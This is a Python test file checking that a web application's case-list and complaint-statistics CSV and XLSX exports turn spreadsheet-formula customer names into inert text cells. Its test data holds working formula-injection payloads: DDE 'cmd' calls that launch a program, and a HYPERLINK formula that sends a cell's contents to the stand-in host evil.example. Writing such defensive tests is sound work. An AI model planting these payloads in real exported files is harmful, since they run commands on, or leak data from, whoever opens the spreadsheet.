"""Exports are inert: a cell that a spreadsheet would read as a formula is exported as text.

Customer names that start with each trigger OWASP lists (``=``, ``+``, ``-``, ``@``, tab,
carriage return) go through the case list's CSV and XLSX exports and the complaint statistics'
XLSX; read back with the csv module and openpyxl, each is the name with a leading apostrophe,
stored as a text cell, never a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from openpyxl import load_workbook

from engine.users import Actor
from tests.conftest import COMPLAINT_RECEIVED
from tests.web.conftest import NOW, Seed, Web, close_complaint
from web.exports import FORMULA_TRIGGERS, inert

DANGEROUS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
)
HARMLESS = ("华东精密机械有限公司", "a=b", "1-2")


def seed_customers(web: Web) -> None:
    web.seed(
        *(
            Seed(f"RO-20260302-{n:04d}", customer=name, created=NOW - timedelta(days=2))
            for n, name in enumerate(DANGEROUS + HARMLESS)
        )
    )


def test_inert_prefixes_exactly_the_formula_triggers() -> None:
    for name in DANGEROUS:
        assert inert(name) == "'" + name
    for name in HARMLESS:
        assert inert(name) == name
    assert inert(-5) == -5 and inert(None) is None
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_csv_export_reads_back_every_dangerous_name_as_text(web: Web) -> None:
    seed_customers(web)
    exported = web.client("sup1").get("/manage/cases", query_string={"q": "RO-20260302", "format": "csv"})
    assert exported.status_code == 200
    text = exported.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    customer = rows[0].index("客户")
    names = {row[customer] for row in rows[1:]}
    assert names == {"'" + name for name in DANGEROUS} | set(HARMLESS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    # Every field is quoted, so a separator or quote inside a name cannot start a new cell.
    assert all(line.startswith('"') for line in text.split("\r\n") if line)


def test_the_xlsx_export_reads_back_every_dangerous_name_as_a_text_cell(web: Web) -> None:
    seed_customers(web)
    exported = web.client("sup1").get("/manage/cases", query_string={"q": "RO-20260302", "format": "xlsx"})
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.data)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    customer = header.index("客户")
    cells = [row[customer] for row in sheet.iter_rows(min_row=2)]
    assert {cell.value for cell in cells} == {"'" + name for name in DANGEROUS} | set(HARMLESS)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value


def test_the_complaint_statistics_export_holds_no_formula(web: Web) -> None:
    web.freeze(NOW)
    sales = Actor("sales1", frozenset({"sales"}))
    for name in DANGEROUS[:4]:
        # The statistics list the complaints closed in the month [001 6].
        started = web.engine.start("complaint", {**COMPLAINT_RECEIVED, "customer_name": name}, sales)
        assert started.business_number is not None
        close_complaint(web, started.business_number)
    exported = web.client("sup1").get(
        "/manage/complaints", query_string={"month": "2026-03", "format": "xlsx"}
    )
    book = load_workbook(io.BytesIO(exported.data))
    names: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
                    names.add(cell.value)
    assert {"'" + name for name in DANGEROUS[:4]} <= names
